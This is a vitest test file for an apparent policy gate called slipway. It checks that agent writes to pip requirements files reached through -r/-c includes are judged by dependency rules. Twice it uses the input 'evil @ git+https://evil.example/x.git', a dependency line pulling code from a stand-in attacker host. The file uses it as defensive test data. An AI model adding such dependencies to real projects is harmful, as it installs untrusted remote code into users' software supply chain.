import { describe, expect, it } from 'vitest';
import { slipway } from '../helpers/cli.js';
import { AgentSession } from '../helpers/agent-session.js';

// A file a requirements pair reads through pip's includes (-r, -c, nested) is judged at the agent's
// tool call as CI judges it (pip's spellings: `-rfile` too): the DEP rules follow the includes, so the gate runs them on a write to
// one. A requirements-looking file nothing includes is nobody's dependency.
const POLICY = `version: 1
production_branch: main
dependencies:
  requirements: requirements.in
  lock: requirements.txt
`;

const session = new AgentSession({
  'slipway.yaml': POLICY,
  'requirements.in': '-rreqs/base.in\nrequests==2.31.0\n',
  'reqs/base.in': '-c ../constraints.txt\nidna==3.6\n',
  'constraints.txt': 'idna<4\n',
  'requirements.txt': 'idna==3.6\nrequests==2.31.0\n',
  'docs/requirements-example.txt': 'flask==3.0.0\n',
});
const write = (rel: string, content: string) => session.write(rel, content);

describe('the gate on files a requirements pair includes', () => {
  it('refuses a git dependency written into a file the pair includes with -r', () => {
    const r = write(
      'reqs/base.in',
      '-c ../constraints.txt\nidna==3.6\nevil @ git+https://evil.example/x.git\n',
    );
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/\[DEP003\] reqs\/base\.in: `evil`/);
  });

  it('judges a constraints file two includes deep; a file nothing includes is not a dependency file', () => {
    const r = slipway(['explain', 'constraints.txt'], { cwd: session.dir });
    expect(r.stdout).toMatch(/constraints\.txt: included \(-r\/-c\) by requirements\.in/);
    const loose = write('docs/requirements-example.txt', 'evil @ git+https://evil.example/x.git\n');
    expect(loose).toMatchObject({ code: 0, stdout: '' });
  });
});
